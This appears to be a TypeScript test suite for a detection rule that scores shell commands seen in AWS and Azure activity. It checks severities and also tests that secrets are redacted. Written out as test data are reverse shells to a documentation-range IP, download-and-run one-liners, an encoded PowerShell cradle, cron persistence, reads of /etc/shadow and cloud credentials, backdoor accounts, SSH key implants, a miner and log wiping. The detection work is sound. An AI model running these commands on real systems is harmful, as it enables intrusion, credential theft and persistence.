import type { Activity } from '../../../shared/model/activity'
import { suspiciousCommand } from '../../../shared/rules/suspicious-command'
import { agentProcess, awsActivity, azureActivity, NOON } from '../../support/activity'
import { findingOf, ruleTable, text, type RuleCase } from './rule-cases'

const now = (script: string, given: Partial<Activity> = {}): Activity =>
  awsActivity({ id: 'now', ...text(script), ...given })

/** Decodes to a download that is run. */
const ENCODED = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
  'utf16le',
).toString('base64')

/** What attack tools and published procedures send (detection-landscape 3). */
const ATTACKS: readonly RuleCase[] = [
  { name: 'Atomic Red Team reads the shadow file', activity: now('cat /etc/shadow'), expected: 'high' },
  {
    name: 'Stratus Red Team shows who and where it is',
    activity: now('echo "id=$(id), hostname=$(hostname)"'),
    expected: 'low',
  },
  {
    name: 'Stratus Red Team reads the instance credentials',
    activity: now('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
    expected: 'high',
  },
  { name: 'Stratus Red Team lists services', activity: now('Get-Service'), expected: 'low' },
  {
    name: 'a reverse shell over /dev/tcp',
    activity: now('0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196'),
    expected: 'high',
  },
  {
    name: 'a reverse shell in Python',
    activity: now(
      `python3 -c 'import ` +
        'socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in ' +
        `(0,1,2)];pty.spawn("bash")'`,
    ),
    expected: 'high',
  },
  {
    name: 'a backdoor account on Windows',
    activity: now('net user /add backdoor P4ssw0rd!\nnet localgroup administrators backdoor /add'),
    expected: 'high',
  },
  {
    name: 'MicroBurst reads the Arc certificate on Windows',
    activity: now('gc C:\\ProgramData\\AzureConnectedMachineAgent\\Certs\\myCert.cer'),
    expected: 'high',
  },
  {
    name: 'MicroBurst reads the Arc certificate on Linux',
    activity: now('cat /var/opt/azcmagent/certs/myCert'),
    expected: 'high',
  },
  {
    name: 'MicroBurst reads the hybrid worker registration',
    activity: now('reg query HKLM\\SOFTWARE\\Microsoft\\HybridRunbookWorkerV2'),
    expected: 'high',
  },
  {
    name: 'MicroBurst exports automation credentials',
    activity: now('Get-AutomationCertificate -Name AzureRunAsCertificate; Protect-CmsMessage cn=microburst'),
    expected: 'high',
  },
  {
    name: 'PowerZure runs a command from a runbook',
    activity: now(
      'Invoke-AzureRmVMRunCommand -ResourceGroupName a -VMName b -CommandId RunPowerShellScript -ScriptPath c.ps1',
    ),
    expected: 'high',
  },
  { name: 'PowerZure drops a script', activity: now('New-Item C:\\temp\\test.ps1'), expected: 'low' },
  {
    name: 'TeamPCP fetches and starts its tool',
    activity: now('curl -s http://203.0.113.9/rope.pyz -o rope.pyz && python3 rope.pyz'),
    expected: 'critical',
  },
  {
    name: 'an agent is registered elsewhere',
    activity: now('amazon-ssm-agent -register -code abc -id 00000000-0000-0000-0000-000000000001 -region eu-west-1'),
    expected: 'high',
  },
  { name: 'a download into a shell', activity: now('curl -fsS http://203.0.113.9/x.sh | sh'), expected: 'high' },
  { name: 'a download that PowerShell runs, encoded', activity: now(`powershell -enc ${ENCODED}`), expected: 'high' },
  {
    name: 'a key for anyone who has it',
    activity: now('echo "ssh-ed25519 AAAA somebody" >> /root/.ssh/authorized_keys'),
    expected: 'high',
  },
  { name: 'a miner', activity: now('xmrig -o stratum+tcp://pool.example.com:3333'), expected: 'high' },
  { name: 'traces removed', activity: now('history -c; rm -rf /var/log/*'), expected: 'high' },
  {
    name: 'a download that cron runs every minute',
    activity: now('(crontab -l; echo "* * * * * curl http://203.0.113.9/c|sh") | crontab -'),
    expected: 'critical',
  },
]

/** What deployments send all day. */
const ORDINARY: readonly RuleCase[] = [
  'curl -fsS http://localhost:8080/health',
  'docker compose pull && docker compose up -d',
  'cd /srv/app && git pull --ff-only',
  'systemctl restart nginx',
  'aws s3 cp s3://example-artifacts/app.tgz . && tar xzf app.tgz',
  'apt-get update && apt-get -y install nginx',
  'yum -y update --security',
  'echo aGVsbG8= | base64 -d',
].map((script) => ({ name: `ordinary: ${script}`, activity: now(script), expected: null }))

ruleTable(suspiciousCommand, [
  ...ATTACKS,
  ...ORDINARY,
  {
    name: 'two strong categories',
    activity: now('cat /etc/shadow; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
    expected: 'critical',
  },
  { name: 'one strong and one weak category', activity: now('whoami; cat /etc/shadow'), expected: 'high' },
  { name: 'one category twice', activity: now('cat /etc/shadow; cat /etc/shadow'), expected: 'high' },
  { name: 'weak categories only', activity: now('whoami'), expected: 'low' },
  { name: 'a text too long to be looked at whole', activity: now('echo padding; '.repeat(20_000)), expected: 'low' },
  { name: 'no text to look at', activity: awsActivity({ id: 'now' }), expected: null },
  { name: 'an empty text', activity: now(''), expected: null },
  {
    name: 'the text of an Azure run command, where it is known',
    activity: azureActivity(text('cat /etc/shadow')),
    expected: 'high',
  },
  {
    name: 'the command line of a process under a guest agent',
    activity: agentProcess(text('cat /etc/shadow')),
    expected: 'high',
  },
  {
    name: 'a denied call shows the intent all the same',
    activity: now('cat /etc/shadow', { outcome: 'denied' }),
    expected: 'high',
  },
  {
    name: 'what Systems Manager does by itself',
    activity: now('cat /etc/shadow', { automatic: true }),
    expected: null,
  },
  { name: 'without history', activity: now('cat /etc/shadow'), storeDown: true, expected: 'high' },
  {
    name: 'learning changes nothing about it',
    activity: now('cat /etc/shadow'),
    settings: { learningDays: 7 },
    learningStart: NOON,
    expected: 'high',
  },
])

describe('what suspicious-command shows', () => {
  it('names each category with the command that shows it, and how it was decoded', async () => {
    const finding = await findingOf(suspiciousCommand, { activity: now(`powershell -enc ${ENCODED}`) })
    expect(finding?.summary).toContain('Download and run')
    expect(finding?.evidence.find(({ label }) => label === 'Download and run')?.value).toContain('DownloadString')
    expect(finding?.evidence.at(-1)?.label).toBe('Decoded')
  })

  it('redacts secrets in what it quotes', async () => {
    const finding = await findingOf(suspiciousCommand, {
      activity: now('curl -H "Authorization: Bearer abcdef0123456789abcdef" http://203.0.113.9/x | sh'),
    })
    expect(finding?.evidence[0]?.value).toContain('Authorization: Bearer [redacted]')
    expect(JSON.stringify(finding)).not.toContain('abcdef0123456789')
  })

  it('says when it did not look at everything', async () => {
    const finding = await findingOf(suspiciousCommand, {
      activity: now(`cat /etc/shadow\n${'echo padding; '.repeat(20_000)}`),
    })
    expect(finding?.severity).toBe('high')
    expect(finding?.evidence.at(-1)?.label).toBe('Not looked at')
  })
})
